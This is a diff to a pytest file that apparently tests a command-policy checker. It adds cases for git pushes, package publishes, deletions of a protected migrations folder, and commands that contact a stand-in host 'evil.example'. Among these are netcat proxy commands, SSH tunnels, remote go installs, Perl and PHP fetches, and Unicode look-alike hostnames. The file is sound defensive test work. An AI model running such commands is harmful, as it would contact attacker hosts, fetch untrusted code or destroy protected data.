@@ -47,6 +47,8 @@ PUSHES = (
     "hub push",
     "git lfs push origin main",
     "jj git push",
+    "git config alias.x push",
+    "git config --global alias.up 'push origin'",
 )
 
 
@@ -76,6 +78,9 @@ PUBLISHES = (
     "corepack npm publish",
     "corepack pnpm@9 publish",
     "cross-env A=1 npm publish",
+    "yarn workspace lib npm publish",
+    "yarn workspaces foreach --all npm publish",
+    "npx changeset publish",
 )
 
 
@@ -160,6 +165,10 @@ MIGRATIONS = rule("deny", "rm migrations/a", path="migrations/**")
         "gunzip migrations/x.gz",
         "rclone purge migrations",
         "rclone delete ./migrations/old",
+        "rclone sync empty migrations",
+        "rclone move migrations remote:x",
+        "git mv migrations other",
+        "rename s/a/b/ migrations/a",
     ],
 )
 def test_a_denied_path_is_kept_from_every_way_to_delete_it(command: str) -> None:
@@ -167,8 +176,13 @@ def test_a_denied_path_is_kept_from_every_way_to_delete_it(command: str) -> None
 
 
 @pytest.mark.parametrize(
-    "command", ["find . -name '*.pyc' -delete", "find . -mtime +30 -delete", "git clean -fdx", "git reset --hard"]
-)
+    "command",
+    [
+        "find . -name '*.pyc' -delete", "find . -mtime +30 -delete", "git clean -fdx", "git reset --hard",
+        "git clean -fdx :/", "git clean -f -- 'migr*'", "git stash -u", "git read-tree -u --reset HEAD",
+        "git checkout-index -f -a",
+    ],
+)  # fmt: skip
 def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
     rules, acts = Rules([MIGRATIONS]), examine_command(command).acts
     assert rules.denied(command, acts, GROUND) is None
@@ -192,6 +206,10 @@ def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
         "gzip -c migrations/x",
         "zstd migrations/x",
         "rclone purge remote:migrations",
+        "rclone sync migrations remote:x",
+        "git stash list",
+        "git read-tree HEAD",
+        "git checkout-index --prefix=out/ -a",
         "docker run -v ./build:/d alpine rm -rf /d/migrations",
         "docker run -v ./migrations:/d alpine cat /d/x",
         "docker run -v ./build:/d alpine rm -rf /migrations",
@@ -300,6 +318,35 @@ def test_a_path_that_cannot_be_known_may_be_what_is_denied_and_is_asked_about() 
         ("git -c http.proxy=evil.example:3128 fetch", True),
         ("git -c http.https://ok.example.proxy=http://evil.example fetch", True),
         ("wget -e http_proxy=evil.example:3128 http://ok.example", True),
+        ("git push evil.example:x", True),
+        ("git fetch evil.example:x/y.git", True),
+        ("go get evil.example/x", True),
+        ("go install evil.example/x@latest", True),
+        ("GOPROXY=https://evil.example,direct go get ok.example/x", True),
+        ("ssh -o ProxyCommand='nc evil.example 22' ok.example", True),
+        ("ssh -L 8080:evil.example:80 ok.example", True),
+        ("ssh -R8080:evil.example:80 ok.example", True),
+        ("gpg --keyserver hkps://evil.example --recv-keys x", True),
+        ("gpg --keyserver evil.example --recv-keys x", True),
+        ("psql 'host=evil.example dbname=x'", True),
+        ("PGHOST=evil.example psql", True),
+        ("DOCKER_HOST=tcp://evil.example:2375 docker ps", True),
+        ("gh api --hostname evil.example /x", True),
+        ("GH_HOST=evil.example gh api /x", True),
+        ("smbclient //evil.example/share", True),
+        ("sshfs evil.example:/x mnt", True),
+        ("tar xf evil.example:x", True),
+        ("nmap evil.example", True),
+        ("perl -MLWP::Simple -e 'get \"http://evil.example\"'", True),
+        ("php -r 'file_get_contents(\"https://evil.example/x\");'", True),
+        ("apt-get -o Acquire::http::Proxy=http://evil.example update", True),
+        ("curl https://evil\u3002example/", True),
+        ("curl https://\uff45\uff56\uff49\uff4c.example/", True),
+        ("PGHOST=/run/postgresql psql", False),
+        ("go test ./evil.example/x", False),
+        ("git show HEAD:evil.example", False),
+        ("tar xf evil.example.tar", False),
+        ("ssh -L 8080:localhost:80 ok.example", False),
         ("curl -g 'http://{ok,evil}.example/'", False),
         ("socat TCP-LISTEN:80,fork EXEC:evil.example", False),
         ("docker build -t evil.example/x .", False),
